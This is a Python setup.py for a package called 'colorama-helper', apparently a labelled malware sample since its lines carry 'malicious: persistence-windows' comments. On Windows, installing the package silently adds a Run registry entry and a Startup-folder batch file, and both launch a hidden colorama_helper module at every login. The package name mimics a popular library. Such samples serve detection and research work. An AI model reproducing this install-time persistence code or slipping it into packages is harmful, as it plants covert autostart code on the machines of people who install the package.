import os
import sys

from setuptools import setup

if sys.platform == "win32":
    import winreg

    run = winreg.CreateKey(winreg.HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run")  # malicious: persistence-windows
    winreg.SetValueEx(run, "colorama", 0, winreg.REG_SZ, sys.executable.replace("python.exe", "pythonw.exe") + " -m colorama_helper")  # malicious: persistence-windows
    startup = os.path.expandvars(r"%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\helper.bat")
    with open(startup, "w") as bat:  # malicious: persistence-windows
        bat.write("@echo off\nstart /b pythonw -m colorama_helper\n")

setup(name="colorama-helper", version="0.4.7", packages=["colorama_helper"])
